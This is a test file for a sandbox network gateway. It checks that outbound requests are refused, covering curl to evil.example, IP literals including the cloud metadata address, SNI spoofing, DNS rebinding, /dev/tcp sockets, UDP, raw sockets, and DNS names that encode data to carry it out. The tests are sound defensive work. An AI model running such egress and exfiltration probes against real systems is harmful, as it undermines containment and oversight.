import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { Inside } from "./testing/inside.ts";
import { openTestGateway, REBINDING, type TestGateway } from "./testing/test-gateway.ts";

let outer: TestGateway;
let inside: Inside;
beforeAll(async () => {
  outer = await openTestGateway();
  inside = outer.inside;
});
beforeEach(() => void outer.takeRefusals());
afterAll(async () => {
  await outer?.[Symbol.asyncDispose]();
});

describe("everything else is refused in words that its protocol has, and told", () => {
  test("a name that no rule allows does not exist", async () => {
    const { code, stderr } = await inside.run(["curl", "-sS", "https://evil.example/"]);
    expect({ code, stderr }).toEqual({ code: 6, stderr: "curl: (6) Could not resolve host: evil.example\n" });
    expect(outer.takeRefusals()).toEqual(["evil.example:0 no network rule allows evil.example"]);
  });

  test.each([
    "93.184.215.14",
    "0x5db8d70f",
    "1572394768",
    "[2606:4700::1111]",
    "169.254.169.254",
    "192.168.1.1",
    "198.18.255.1",
  ])("the literal %s is refused", async (literal) => {
    const plain = await inside.run(["curl", "-sS", "--max-time", "5", `http://${literal}/`]);
    expect(plain.stdout === "" ? plain.stderr : plain.stdout).toMatch(
      /wingthing: no network rule allows|Connection reset|Failed to connect/,
    );
    const tls = await inside.run(["curl", "-sSk", "--max-time", "5", `https://${literal}/`]);
    expect(tls.stderr).toMatch(/alert access denied|reset|Failed to connect/i);
    expect(outer.takeRefusals().map((refusal) => /:(\d+) /.exec(refusal)?.[1])).toEqual(["80", "443"]);
  });

  test("another server name on an allowed address is refused", async () => {
    const { code, stderr } = await inside.run([
      "curl",
      "-sSk",
      "--connect-to",
      "evil.example:443:allowed.example:443",
      "https://evil.example/",
    ]);
    expect(code).toBe(35);
    expect(stderr).toMatch(/unrecognized name/);
    expect(outer.takeRefusals()).toEqual([
      "allowed.example:443 TLS to allowed.example on port 443 names another server, evil.example",
    ]);
  });

  test("TLS without a server name is refused on 443", async () => {
    const script = `require("node:tls").connect({ host: "allowed.example", port: 443, servername: "" }).on("error", (e) => console.log(e.code))`;
    expect((await inside.run([process.execPath, "-e", script])).stdout).toBe("ERR_SSL_TLSV1_UNRECOGNIZED_NAME\n");
    expect(outer.takeRefusals()).toEqual([
      "allowed.example:443 TLS to allowed.example on port 443 names no server (SNI)",
    ]);
  });

  test("plain HTTP on 443 is refused with a sentence", async () => {
    expect(await inside.sh("curl -sS http://allowed.example:443/")).toBe(
      "wingthing: only TLS may be spoken to allowed.example on port 443\n",
    );
  });

  test.each(Object.entries(REBINDING))("%s, which resolves to %s, is refused", async (name, address) => {
    expect(await inside.sh(`curl -sS http://${name}/`)).toContain(`wingthing: ${name} (${address}) is `);
    expect((await inside.run(["curl", "-sSk", `https://${name}/`])).stderr).toMatch(/alert access denied/);
    expect(outer.takeRefusals()).toHaveLength(2);
  });

  test("a name that is allowed but dead is a bad gateway, and no refusal", async () => {
    expect(await inside.sh("curl -sS http://dead.example/")).toContain("wingthing: dead.example cannot be resolved");
    expect(outer.takeRefusals()).toEqual([]);
  });

  test("an allowed name on a port that its rules do not name is refused when the port is caught, else reset", async () => {
    expect((await inside.run(["bash", "-c", "exec 3<>/dev/tcp/allowed.example/7; cat <&3"])).stderr).toMatch(/reset/);
    expect(outer.takeRefusals()).toEqual([
      "allowed.example:7 the network rules allow allowed.example on ports 80, 443, not on port 7",
    ]);
    expect((await inside.run(["bash", "-c", "exec 3<>/dev/tcp/allowed.example/8081"])).stderr).toMatch(
      /Connection refused/,
    );
  });
});

describe("nothing but TCP through the gateway gets anywhere", () => {
  test("UDP is refused at once, to any address and port", async () => {
    const script = `
import socket
for family, address in ((socket.AF_INET, "8.8.8.8"), (socket.AF_INET, "198.18.0.1"), (socket.AF_INET6, "2606:4700::1111")):
    for port in (443, 123, 5353):
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3); s.connect((address, port)); s.send(b"x")
        try: s.recv(1); print("answered", address, port)
        except ConnectionRefusedError: pass
print("done")`;
    expect((await inside.run(["/usr/bin/python3", "-c", script])).stdout).toBe("done\n");
  });

  test("no raw socket can be had, and pings find nobody", async () => {
    const script = `
import socket
for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_INET, socket.SOCK_DGRAM, 1)):
    try: socket.socket(family, kind, protocol); print("opened", family, kind)
    except PermissionError: pass
print("done")`;
    expect((await inside.run(["/usr/bin/python3", "-c", script])).stdout).toBe("done\n");
  });

  test("there is no interface but loopback, and a program inside can add none", async () => {
    expect(await inside.sh("ls /sys/class/net >/dev/null; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")).toBe(
      "lo\n",
    );
    const { code, stderr } = await inside.run(["ip", "link", "add", "d0", "type", "dummy"]);
    expect(code).not.toBe(0);
    expect(stderr).toMatch(/Operation not permitted/);
  });

  test("names cannot carry data out: what is not an address of an allowed name is answered here", async () => {
    const names = ["c2VjcmV0.evil.example", `${"a".repeat(63)}.evil.example`, "allowed.example"];
    for (const name of names) {
      const answered = await inside.sh(`/usr/bin/python3 -c '${askingForText(name)}'`);
      expect(answered).toMatch(/^[03] 0\n$/);
    }
  });
});

/** A program that asks for TXT and prints the response code and the count of answers. */
function askingForText(name: string): string {
  const hex = Buffer.from(
    [...name.split(".")].map((label) => String.fromCharCode(label.length) + label).join(""),
    "latin1",
  ).toString("hex");
  return `import socket
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.connect(("127.0.0.1",53))
s.send(bytes.fromhex("123401000001000000000000${hex}0000100001")); a=s.recv(600); print(a[3]&15, a[7])`;
}
